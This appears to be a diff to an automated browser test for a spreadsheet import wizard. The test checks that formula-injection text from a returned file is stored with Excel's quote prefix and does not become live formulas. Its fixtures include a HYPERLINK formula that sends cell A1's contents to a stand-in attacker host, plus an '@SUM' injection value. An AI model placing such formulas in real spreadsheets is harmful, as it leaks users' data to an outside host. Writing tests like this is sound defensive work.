@@ -112,11 +112,13 @@ describe("department workbooks wizard in the playground", () => {
       ["", 62.4, 62.4, 62.4, 62.4, 249.6],
     ]);
     // Nothing from the returned file became a formula: the texts went in with Excel's quote
-    // prefix (Excel keeps the apostrophe out of the value; the playground shows it as typed).
+    // prefix, which Excel, and the playground, keep out of the value shown.
     const written = await readCells(page, "Forslagskatalog!A1:P20");
     expect(written.inputs.flat().filter((input) => typeof input === "string" && input.startsWith("="))).toEqual([]);
     const takst = written.inputs.find((row) => row[3] === "Ny takst");
     expect([takst?.[4], takst?.[13]]).toEqual(['\'=HYPERLINK("http://angriber.example/?"&A1,"Klik")', "'@SUM(1,1)"]);
+    const shown = written.values[written.inputs.indexOf(takst ?? [])];
+    expect([shown?.[4], shown?.[13]]).toEqual(['=HYPERLINK("http://angriber.example/?"&A1,"Klik")', "@SUM(1,1)"]);
     expect(session.errors).toEqual([]);
   });
 
